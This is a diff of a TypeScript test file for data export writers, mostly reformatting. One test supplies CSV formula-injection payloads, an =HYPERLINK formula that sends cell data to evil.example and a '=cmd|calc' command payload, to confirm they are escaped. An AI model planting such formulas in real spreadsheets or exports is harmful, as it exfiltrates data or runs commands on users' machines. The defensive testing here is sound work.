@@ -3,7 +3,7 @@ import { tmpdir } from 'node:os'
 import { join } from 'node:path'
 import ExcelJS from 'exceljs'
 import { afterEach, beforeEach, describe, expect, it } from 'vitest'
-import { ResultShaper } from '../../../../../common/query/result-set'
+import { ResultShaper } from '@common/query/result-set'
 import { csvField, csvRecord } from '../../../../../main/dataverse/export/csv'
 import { createExportWriter } from '../../../../../main/dataverse/export/writer'
 import { parseCsv } from '../../../../support/parse-csv'
@@ -17,7 +17,15 @@ function pages() {
       { name: 'Contoso, Ltd.', industrycode: 1, [`industrycode${F}`]: 'Accounting', revenue: 1000.5, accountid: 'a1' },
       { name: 'He said "hi"\r\nthen left', industrycode: null, revenue: null, accountid: 'a2' },
     ]),
-    shaper.shape([{ name: 'Société Générale — 株式会社', industrycode: 2, [`industrycode${F}`]: 'Agriculture', revenue: 0, accountid: 'a3' }]),
+    shaper.shape([
+      {
+        name: 'Société Générale — 株式会社',
+        industrycode: 2,
+        [`industrycode${F}`]: 'Agriculture',
+        revenue: 0,
+        accountid: 'a3',
+      },
+    ]),
   ]
 }
 
@@ -75,9 +83,21 @@ describe('export writers', () => {
       for (const page of pages()) await writer.writePage(page)
       await writer.finish()
       const text = await readFile(path, 'utf8')
-      const rows = format === 'json' ? (JSON.parse(text) as unknown[]) : text.trim().split('\n').map((line) => JSON.parse(line) as unknown)
+      const rows =
+        format === 'json'
+          ? (JSON.parse(text) as unknown[])
+          : text
+              .trim()
+              .split('\n')
+              .map((line) => JSON.parse(line) as unknown)
       expect(rows).toHaveLength(3)
-      expect(rows[0]).toEqual({ name: 'Contoso, Ltd.', industrycode: 1, [`industrycode${F}`]: 'Accounting', revenue: 1000.5, accountid: 'a1' })
+      expect(rows[0]).toEqual({
+        name: 'Contoso, Ltd.',
+        industrycode: 1,
+        [`industrycode${F}`]: 'Accounting',
+        revenue: 1000.5,
+        accountid: 'a1',
+      })
     }
     const empty = createExportWriter('json', join(dir, 'empty.json'))
     await empty.finish()
@@ -110,8 +130,18 @@ describe('export writers', () => {
   })
 
   it('L9 neutralises text cells that start with = + - @ tab or CR, and leaves numbers alone', () => {
-    const hostile = ['=HYPERLINK("https://evil.example/?d="&B2,"Click")', 'Contoso', '+1-555', '@SUM(1+1)', '-2+3', '\t=1', '\r=1']
-    expect(csvRecord(hostile)).toBe(`"'=HYPERLINK(""https://evil.example/?d=""&B2,""Click"")",Contoso,'+1-555,'@SUM(1+1),'-2+3,'\t=1,"'\r=1"\r\n`)
+    const hostile = [
+      '=HYPERLINK("https://evil.example/?d="&B2,"Click")',
+      'Contoso',
+      '+1-555',
+      '@SUM(1+1)',
+      '-2+3',
+      '\t=1',
+      '\r=1',
+    ]
+    expect(csvRecord(hostile)).toBe(
+      `"'=HYPERLINK(""https://evil.example/?d=""&B2,""Click"")",Contoso,'+1-555,'@SUM(1+1),'-2+3,'\t=1,"'\r=1"\r\n`,
+    )
     expect(csvRecord([-2, 3.5, 0, null, true])).toBe('-2,3.5,0,,true\r\n')
     expect(csvField('a=b')).toBe('a=b')
   })
@@ -120,9 +150,15 @@ describe('export writers', () => {
     expect(csvRecord(['=1+1', -1], 'raw')).toBe('=1+1,-1\r\n')
     const shaper = new ResultShaper(['name'])
     const page = shaper.shape([{ name: '=cmd|calc', accountid: 'a1' }])
-    for (const [formulas, expected] of [[undefined, "'=cmd|calc"], ['raw', '=cmd|calc']] as const) {
+    for (const [formulas, expected] of [
+      [undefined, "'=cmd|calc"],
+      ['raw', '=cmd|calc'],
+    ] as const) {
       const path = join(dir, `formulas-${formulas ?? 'default'}.csv`)
-      const writer = createExportWriter('csv', path, { includeFormatted: false, ...(formulas ? { csvFormulas: formulas } : {}) })
+      const writer = createExportWriter('csv', path, {
+        includeFormatted: false,
+        ...(formulas ? { csvFormulas: formulas } : {}),
+      })
       await writer.writePage(page)
       await writer.finish()
       expect(parseCsv((await readFile(path, 'utf8')).slice(1))[1]?.[0]).toBe(expected)
@@ -130,7 +166,8 @@ describe('export writers', () => {
   })
 
   // POSIX permission bits do not exist on Windows (stat reports 0o666 whatever was asked).
-  it.skipIf(process.platform === 'win32')('L10 writes every export format readable by its owner only', async () => { // skipped on Windows: it keeps access in ACLs, not POSIX mode bits
+  it.skipIf(process.platform === 'win32')('L10 writes every export format readable by its owner only', async () => {
+    // skipped on Windows: it keeps access in ACLs, not POSIX mode bits
     for (const format of ['csv', 'json', 'ndjson', 'xlsx'] as const) {
       const path = join(dir, `mode.${format}`)
       const writer = createExportWriter(format, path)
